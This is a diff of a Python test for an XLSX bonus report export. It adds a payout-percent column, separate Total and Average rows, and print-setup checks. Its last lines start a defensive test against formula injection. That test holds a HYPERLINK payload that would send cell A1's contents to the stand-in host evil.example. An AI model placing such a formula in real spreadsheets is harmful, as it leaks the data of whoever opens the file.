@@ -149,7 +149,7 @@ class TestBonusXlsx(BonusCase):
         rows = [
             {"name": "Valery", "login": "valery", "profile": "Sales", "team": "Team A",
              "kpis": [{"value": 250000, "target": 200000, "score": 125, "weight": 100}],
-             "total_score": 125, "amount": 6250.5},
+             "total_score": 125, "payout_percent": 125, "amount": 6250.5},
             {"name": "Vasily", "login": "vasily", "profile": "Sales", "team": "Team A",
              "note": "Paid for 15 of the 30 days of the period.",
              "kpis": [{"value": 100000, "target": 200000, "score": 50, "weight": 100}],
@@ -168,23 +168,30 @@ class TestBonusXlsx(BonusCase):
                                        "Notes", "Net profit: Value", "Net profit: Target",
                                        "Net profit: Score (%)", "Net profit: Weight Used (%)",
                                        "Weighted Score (%)"])
+        self.assertEqual(titles[10:], ["Payout (%)", "Bonus (EUR)"])
         first = ws[header_row + 1]
         self.assertEqual([c.value for c in first], ["Valery", "valery", "Sales", "Team A",
-                                                    "", 250000, 200000, 125, 100, 125,
+                                                    "", 250000, 200000, 125, 100, 125, 125,
                                                     6250.5])
-        self.assertIsInstance(first[10].value, float)
-        self.assertIn("EUR", first[10].number_format)
+        self.assertIsInstance(first[11].value, float)
+        self.assertIn("EUR", first[11].number_format)
         self.assertEqual(ws[header_row + 2][4].value,
                          "Paid for 15 of the 30 days of the period.")
+        self.assertIsNone(ws[header_row + 2][10].value)  # no payout % given: left empty
         # nothing to measure: said in words, never a 0 that looks measured
         self.assertEqual([c.value for c in ws[header_row + 3]][4:9],
                          ["Nothing to measure for Net profit (100%).", "no data", 200000,
                           "no data", 0])
-        totals = ws[header_row + 4]
-        self.assertEqual(totals[0].value, "Total")
-        self.assertEqual((totals[9].value, totals[10].value), (175 / 3, 6250.5))
+        # the bonus is a total, the weighted score an average: each row says which
+        totals, average = ws[header_row + 4], ws[header_row + 5]
+        self.assertEqual((totals[0].value, totals[9].value, totals[11].value),
+                         ("Total", None, 6250.5))
+        self.assertEqual((average[0].value, average[9].value, average[11].value),
+                         ("Average", 175 / 3, None))
         self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
-        self.assertEqual(ws.auto_filter.ref, "A%s:K%s" % (header_row, header_row + 3))
+        self.assertEqual(ws.auto_filter.ref, "A%s:L%s" % (header_row, header_row + 3))
+        self.assertEqual(ws.page_setup.orientation, "landscape")
+        self.assertEqual(ws.print_title_rows, "$%s:$%s" % (header_row, header_row))
 
     def test_strings_are_never_formulas(self):
         evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
